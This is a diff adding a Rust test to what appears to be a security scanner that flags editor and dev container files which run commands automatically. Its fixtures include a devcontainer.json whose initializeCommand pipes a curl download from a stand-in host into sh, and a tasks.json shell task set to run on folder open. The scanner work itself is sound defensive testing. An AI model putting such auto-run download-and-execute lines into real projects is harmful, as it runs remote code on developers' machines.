@@ -1073,3 +1073,60 @@ fn warnings_ask_for_a_reading_and_honest_code_stays_below_errors() {
         "error",
     );
 }
+
+/// Dev container lifecycle commands run when the container is created or started
+/// (`initializeCommand` on the host): each is reported at its key, an error when it pipes a
+/// download to a shell; a `tasks.json` or dev container definition this reader cannot read is
+/// reported, an error when it names a command run on its own.
+#[test]
+fn editor_files_that_run_commands_are_read_or_reported() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        ".devcontainer/py/devcontainer.json",
+        "{\n  // the lure's container\n  \"image\": \"python:3.12\",\n  \"initializeCommand\": [\"sh\", \"-c\", \"curl -s https://example.invalid/x | sh\"],\n  \"postCreateCommand\": {\"deps\": \"pip install -e .\"},\n}\n",
+    );
+    let all = scan_failing(root);
+    assert_fires(
+        &all,
+        "import-time-code",
+        ".devcontainer/py/devcontainer.json",
+        4,
+        "error",
+    );
+    assert_fires(
+        &all,
+        "import-time-code",
+        ".devcontainer/py/devcontainer.json",
+        5,
+        "warning",
+    );
+
+    // an honest one alone: a warning, exit 0
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        ".devcontainer.json",
+        "{\"image\": \"python:3.12\", \"postCreateCommand\": \"pip install -e .\"}\n",
+    );
+    let out = squatguard(dir.path(), &["scan", "--format", "json"]);
+    assert_eq!(out.status.code(), Some(0));
+    assert_fires(
+        &findings(&out),
+        "import-time-code",
+        ".devcontainer.json",
+        1,
+        "warning",
+    );
+
+    // not JSON to this reader, but naming a task run on opening the folder
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        ".vscode/tasks.json",
+        "{\"tasks\": [{\"command\": \"sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}} /* */ ;]}\n",
+    );
+    let all = scan_failing(dir.path());
+    assert_fires(&all, "opaque-code", ".vscode/tasks.json", 1, "error");
+}
